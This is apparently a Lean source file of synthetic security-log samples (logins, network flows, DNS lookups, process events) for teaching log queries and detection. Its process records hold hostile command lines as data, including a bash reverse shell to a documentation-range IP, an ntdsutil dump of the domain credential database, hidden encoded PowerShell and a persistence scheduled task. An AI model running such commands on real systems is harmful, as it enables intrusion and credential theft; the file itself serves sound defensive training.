import LogLab.Record
import LogLab.Source

/-! # Sample data

A few records for every source, for lessons and for trying out queries.
-/

namespace LogLab.Samples

def login (timestamp username sourceIp action method host : String) : Record :=
  .ofList [("timestamp", .string timestamp), ("username", .string username),
    ("source_ip", .string sourceIp), ("action", .string action), ("auth_method", .string method),
    ("host", .string host)]

def flow (timestamp sourceIp destinationIp : String) (sourcePort destinationPort : Nat)
    (protocol : String) (bytes : Nat) (action : String) : Record :=
  .ofList [("timestamp", .string timestamp), ("src_ip", .string sourceIp),
    ("dst_ip", .string destinationIp), ("src_port", .int sourcePort),
    ("dst_port", .int destinationPort), ("protocol", .string protocol), ("bytes", .int bytes),
    ("action", .string action)]

/-- A query for a name; the answer may be missing. -/
def lookup (timestamp clientIp query type response : String) (answer : Option String) : Record :=
  .ofList [("timestamp", .string timestamp), ("client_ip", .string clientIp),
    ("query", .string query), ("query_type", .string type), ("response_code", .string response),
    ("answer", (answer.map Json.string).getD .null)]

def process (timestamp host user : String) (pid : Nat) (name commandLine parent : String) :
    Record :=
  .ofList [("timestamp", .string timestamp), ("host", .string host), ("user", .string user),
    ("pid", .int pid), ("process_name", .string name), ("command_line", .string commandLine),
    ("parent_process", .string parent)]

def authLogs : Dataset := [
  login "2024-01-15T08:02:11Z" "jsmith" "10.0.1.15" "successful_login" "ssh" "workstation-01",
  login "2024-01-15T08:14:37Z" "admin" "203.0.113.45" "failed_login" "ssh" "bastion-01",
  login "2024-01-15T08:14:41Z" "admin" "203.0.113.45" "failed_login" "ssh" "bastion-01",
  login "2024-01-15T08:14:46Z" "admin" "203.0.113.45" "failed_login" "ssh" "bastion-01",
  login "2024-01-15T08:15:02Z" "root" "203.0.113.45" "failed_login" "ssh" "bastion-01",
  login "2024-01-15T08:15:09Z" "root" "198.51.100.23" "failed_login" "ssh" "bastion-01",
  login "2024-01-15T08:31:55Z" "mjones" "10.0.1.22" "successful_login" "rdp" "workstation-07",
  login "2024-01-15T09:05:18Z" "jsmith" "10.0.1.15" "failed_login" "vpn" "vpn-gw-01",
  login "2024-01-15T09:05:40Z" "jsmith" "10.0.1.15" "successful_login" "vpn" "vpn-gw-01",
  login "2024-01-15T09:47:03Z" "admin" "198.51.100.23" "failed_login" "ssh" "bastion-01",
  login "2024-01-15T09:47:15Z" "admin" "198.51.100.23" "successful_login" "ssh" "bastion-01",
  login "2024-01-15T10:12:29Z" "svc_backup" "10.0.2.5" "successful_login" "kerberos" "dc-01",
  login "2024-01-15T10:58:44Z" "root" "198.51.100.23" "failed_login" "ssh" "db-01",
  login "2024-01-15T11:20:07Z" "mjones" "10.0.1.22" "logout" "rdp" "workstation-07",
  login "2024-01-15T11:42:51Z" "guest" "192.0.2.77" "failed_login" "web" "portal-01",
  login "2024-01-15T12:03:36Z" "admin" "10.0.0.5" "account_locked" "ssh" "bastion-01"]

def networkTraffic : Dataset := [
  flow "2024-01-15T08:00:05Z" "10.0.1.15" "93.184.216.34" 51514 443 "tcp" 5230 "allow",
  flow "2024-01-15T08:14:30Z" "203.0.113.45" "10.0.0.10" 40122 22 "tcp" 820 "allow",
  flow "2024-01-15T08:15:10Z" "203.0.113.45" "10.0.0.10" 40188 22 "tcp" 640 "allow",
  flow "2024-01-15T08:20:44Z" "10.0.1.22" "10.0.2.5" 49811 445 "tcp" 15320 "allow",
  flow "2024-01-15T08:45:02Z" "10.0.1.15" "8.8.8.8" 53001 53 "udp" 128 "allow",
  flow "2024-01-15T09:10:19Z" "10.0.3.40" "185.220.101.7" 50444 4444 "tcp" 250880 "allow",
  flow "2024-01-15T09:10:52Z" "10.0.3.40" "185.220.101.7" 50445 4444 "tcp" 1048576 "allow",
  flow "2024-01-15T09:30:00Z" "198.51.100.23" "10.0.0.10" 33112 3389 "tcp" 96 "deny",
  flow "2024-01-15T10:02:37Z" "10.0.2.5" "10.0.5.9" 51000 873 "tcp" 734003 "allow",
  flow "2024-01-15T10:45:11Z" "192.0.2.77" "10.0.0.20" 60231 80 "tcp" 2048 "deny",
  flow "2024-01-15T11:15:29Z" "10.0.1.22" "151.101.1.69" 52212 443 "tcp" 44310 "allow",
  flow "2024-01-15T12:01:48Z" "10.0.3.40" "45.33.32.156" 50990 8080 "tcp" 3120 "allow"]

def dnsLogs : Dataset := [
  lookup "2024-01-15T08:00:03Z" "10.0.1.15" "www.example.com" "A" "NOERROR" (some "93.184.216.34"),
  lookup "2024-01-15T08:45:02Z" "10.0.1.15" "updates.vendor.com" "A" "NOERROR"
    (some "151.101.1.69"),
  lookup "2024-01-15T09:09:58Z" "10.0.3.40" "x7f3k9q2.badcdn.net" "A" "NOERROR"
    (some "185.220.101.7"),
  lookup "2024-01-15T09:12:14Z" "10.0.3.40" "a1b2c3d4e5f6.badcdn.net" "TXT" "NOERROR" none,
  lookup "2024-01-15T09:12:20Z" "10.0.3.40" "f6e5d4c3b2a1.badcdn.net" "TXT" "NOERROR" none,
  lookup "2024-01-15T09:40:33Z" "10.0.1.22" "intranet.corp.local" "A" "NOERROR" (some "10.0.0.20"),
  lookup "2024-01-15T10:05:41Z" "10.0.2.5" "backup.corp.local" "A" "NOERROR" (some "10.0.5.9"),
  lookup "2024-01-15T10:44:59Z" "192.0.2.77" "portal.corp.example" "A" "NOERROR"
    (some "10.0.0.20"),
  lookup "2024-01-15T11:30:12Z" "10.0.1.15" "paypa1-login.com" "A" "NXDOMAIN" none,
  lookup "2024-01-15T12:01:45Z" "10.0.3.40" "scanme.nmap.org" "A" "NOERROR" (some "45.33.32.156")]

def processEvents : Dataset := [
  process "2024-01-15T08:02:30Z" "workstation-01" "jsmith" 4120 "explorer.exe"
    "C:\\Windows\\explorer.exe" "userinit.exe",
  process "2024-01-15T08:33:10Z" "workstation-07" "mjones" 5012 "outlook.exe"
    "\"C:\\Program Files\\Microsoft Office\\outlook.exe\"" "explorer.exe",
  process "2024-01-15T09:08:45Z" "workstation-12" "lwong" 6220 "winword.exe"
    "\"C:\\Program Files\\Microsoft Office\\winword.exe\" /n invoice.docm" "outlook.exe",
  process "2024-01-15T09:09:02Z" "workstation-12" "lwong" 6288 "powershell.exe"
    "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA" "winword.exe",
  process "2024-01-15T09:09:40Z" "workstation-12" "lwong" 6301 "cmd.exe" "cmd.exe /c whoami /all"
    "powershell.exe",
  process "2024-01-15T09:11:05Z" "workstation-12" "lwong" 6342 "rundll32.exe"
    "rundll32.exe C:\\Users\\lwong\\AppData\\Local\\Temp\\upd.dll,Start" "powershell.exe",
  process "2024-01-15T10:12:40Z" "dc-01" "svc_backup" 7010 "ntdsutil.exe"
    "ntdsutil.exe \"ac i ntds\" ifm \"create full C:\\temp\\ntds\" q q" "cmd.exe",
  process "2024-01-15T10:30:18Z" "workstation-01" "jsmith" 4399 "chrome.exe"
    "\"C:\\Program Files\\Google\\Chrome\\chrome.exe\"" "explorer.exe",
  process "2024-01-15T11:02:57Z" "db-01" "root" 8801 "bash"
    "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1" "sshd",
  process "2024-01-15T11:45:22Z" "workstation-07" "mjones" 5120 "schtasks.exe"
    "schtasks.exe /create /tn Updater /tr C:\\Users\\Public\\upd.exe /sc onlogon" "cmd.exe"]

def dataset : Source → Dataset
  | .authLogs => authLogs
  | .networkTraffic => networkTraffic
  | .dnsLogs => dnsLogs
  | .processEvents => processEvents

end LogLab.Samples
